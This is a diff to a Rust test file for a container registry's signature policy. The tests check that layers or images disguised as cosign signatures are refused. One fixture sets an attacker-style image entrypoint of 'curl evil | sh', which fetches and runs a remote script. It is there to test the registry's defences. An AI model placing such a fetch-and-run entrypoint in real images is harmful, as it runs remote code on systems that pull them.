@@ -68,13 +68,22 @@ async fn reader_of<'a>(reg: &'a TestRegistry, ns: &str, repo: &str) -> Reader<'a
     Reader { reg, token }
 }
 
+/// A new key, which namespace `ns` now requires (named `ci`).
+async fn require_ci_key(reg: &TestRegistry, ns: &str) -> Key {
+    let key = Key::new();
+    let policy = json!({"mode": "require", "keys": [{"name": "ci", "pem": key.pem}]});
+    set_policy(reg, ns, policy).await.expect(200, None);
+    key
+}
+
 async fn set_policy(reg: &TestRegistry, ns: &str, body: serde_json::Value) -> common::Reply {
     reg.admin_api("PUT", &format!("/api/v1/namespaces/{ns}/signature-policy"), body).await
 }
 
 #[tokio::test]
 async fn require_serves_only_images_signed_by_a_trusted_key() {
-    let reg = TestRegistry::new().await;
+    // With attestations and SBOMs attached beside the signatures, as by default.
+    let reg = TestRegistry::attaching().await;
     let reader = reader_of(&reg, "signed", "signed/app").await;
     let repo = "signed/app";
     let (a, a_layer) = push_image(&reg, repo, "a", "alpha").await;
@@ -122,7 +131,8 @@ async fn require_serves_only_images_signed_by_a_trusted_key() {
     set_policy(&reg, "signed", both).await.expect(200, None);
     assert_eq!(reader.manifest(repo, "b").await.0, 200, "a referrer signature by a trusted key");
     assert_eq!(reader.blob(repo, &b_layer).await.0, 200);
-    let referrers = reg.get(&format!("/v2/{repo}/referrers/{b}")).await.json();
+    let signatures = "artifactType=application/vnd.dev.cosign.artifact.sig.v1%2Bjson";
+    let referrers = reg.get(&format!("/v2/{repo}/referrers/{b}?{signatures}")).await.json();
     assert_eq!(referrers["manifests"][0]["artifactType"], "application/vnd.dev.cosign.artifact.sig.v1+json");
 
     // Admins read unsigned images (audited); warn serves them to readers.
@@ -139,30 +149,77 @@ async fn require_serves_only_images_signed_by_a_trusted_key() {
     assert!(audit.json().to_string().contains("signature.policy"), "policy changes are audited");
 }
 
+/// Pushes, as `tag`, a manifest that looks like a signature: `layer` (already in `repo`) typed as
+/// a simple-signing payload (signed by `key` if given), under the config `config(diff id of the
+/// layer)`; waits for its scan to pass (so that only the signature gate can refuse it). The
+/// config's digest.
+async fn dressed_as_signature(
+    reg: &TestRegistry,
+    repo: &str,
+    tag: &str,
+    layer: &Digest,
+    config: impl Fn(String) -> serde_json::Value,
+    key: Option<&Key>,
+) -> Digest {
+    let bytes = reg.get(&format!("/v2/{repo}/blobs/{layer}")).await.body;
+    let config = config(images::diff_id(&bytes)).to_string();
+    let config_digest = reg.push_blob(repo, config.as_bytes()).await;
+    let mut descriptor = json!({"mediaType": SIMPLE_SIGNING, "digest": layer.to_string(), "size": bytes.len()});
+    if let Some(key) = key {
+        descriptor["annotations"] = json!({"dev.cosignproject.cosign/signature": key.sign(b"anything")});
+    }
+    let manifest = serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
+        "config": {"mediaType": OCI_CONFIG, "digest": config_digest.to_string(), "size": config.len()},
+        "layers": [descriptor]}))
+    .unwrap();
+    reg.put_manifest(repo, tag, OCI_MANIFEST, &manifest).await.expect(201, None);
+    assert_eq!(reg.wait_scan(repo, &sha256(&manifest)).await, "passed", "the quarantine gate is not what stops it");
+    config_digest
+}
+
 #[tokio::test]
 async fn a_layer_relabelled_as_a_signature_payload_stays_closed() {
     let reg = TestRegistry::new().await;
     let reader = reader_of(&reg, "signed", "signed/app").await;
     let repo = "signed/app";
-    let key = Key::new();
-    set_policy(&reg, "signed", json!({"mode": "require", "keys": [{"name": "ci", "pem": key.pem}]}))
-        .await
-        .expect(200, None);
+    let key = require_ci_key(&reg, "signed").await;
     let (_, layer) = push_image(&reg, repo, "unsigned", "delta").await;
     // A "signature manifest" whose one layer is the unsigned image's layer, with a signature.
-    let size = reg.get(&format!("/v2/{repo}/blobs/{layer}")).await.body.len();
-    let config = json!({"architecture": "", "os": "", "config": {}, "rootfs": {"type": "layers", "diff_ids": []}});
-    let config = config.to_string();
-    let config_digest = reg.push_blob(repo, config.as_bytes()).await;
-    let fake = serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
-        "config": {"mediaType": OCI_CONFIG, "digest": config_digest.to_string(), "size": config.len()},
-        "layers": [{"mediaType": SIMPLE_SIGNING, "digest": layer.to_string(), "size": size,
-            "annotations": {"dev.cosignproject.cosign/signature": key.sign(b"anything")}}]}))
-    .unwrap();
-    reg.put_manifest(repo, "fake", OCI_MANIFEST, &fake).await.expect(201, None);
-    reg.wait_scan(repo, &sha256(&fake)).await;
+    let config = |diff_id: String| {
+        json!({"architecture": "", "os": "", "config": {"User": "10001"},
+        "rootfs": {"type": "layers", "diff_ids": [diff_id]}})
+    };
+    dressed_as_signature(&reg, repo, "fake", &layer, config, Some(&key)).await;
     let (status, message) = reader.blob(repo, &layer).await;
-    assert_eq!(status, 403, "an image layer is not a payload: {message}");
+    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "a layer is not a payload: {message}");
+    let (status, message) = reader.manifest(repo, "fake").await;
+    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "nor is the manifest a signature: {message}");
+}
+
+/// An image whose config also reads as a payload, whose layer (a signed image's) is labelled as
+/// a signature: neither it nor its config is served, though every descriptor looks right.
+#[tokio::test]
+async fn an_image_dressed_as_a_signature_is_not_served() {
+    let reg = TestRegistry::new().await;
+    let reader = reader_of(&reg, "signed", "signed/app").await;
+    let repo = "signed/app";
+    let key = require_ci_key(&reg, "signed").await;
+    let (signed, layer) = push_image(&reg, repo, "base", "signed-base").await;
+    push_signature(&reg, repo, &signed, &key, Some(&cosign::tag(&signed))).await;
+    assert_eq!(reader.blob(repo, &layer).await.0, 200, "the signed image's layer");
+    // The attacker's config: a runnable image config that also parses as a simple-signing payload.
+    let config = |diff_id: String| {
+        json!({"architecture": "amd64", "os": "linux",
+        "config": {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"], "User": "10001"},
+        "rootfs": {"type": "layers", "diff_ids": [diff_id]},
+        "critical": {"image": {"docker-manifest-digest": signed.to_string()}, "type": "cosign container image signature"}})
+    };
+    let config_digest = dressed_as_signature(&reg, repo, "latest", &layer, config, None).await;
+    let (status, message) = reader.manifest(repo, "latest").await;
+    assert_eq!(status, 403);
+    assert!(message.starts_with("SIGNATURE_REQUIRED"), "not a signature, its layer is a tar: {message}");
+    let (status, message) = reader.blob(repo, &config_digest).await;
+    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "its config is not served: {message}");
 }
 
 #[tokio::test]
